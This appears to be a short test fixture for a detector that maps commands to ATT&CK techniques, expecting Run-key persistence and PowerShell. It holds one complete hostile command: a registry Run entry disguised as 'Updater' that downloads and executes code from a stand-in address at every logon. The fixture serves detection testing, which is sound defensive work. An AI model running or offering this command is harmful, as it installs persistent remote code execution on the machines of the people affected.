# expect: T1547.001 T1059.001
reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "powershell -nop -c \"iex(iwr http://192.0.2.10/u -UseB)\"" /f
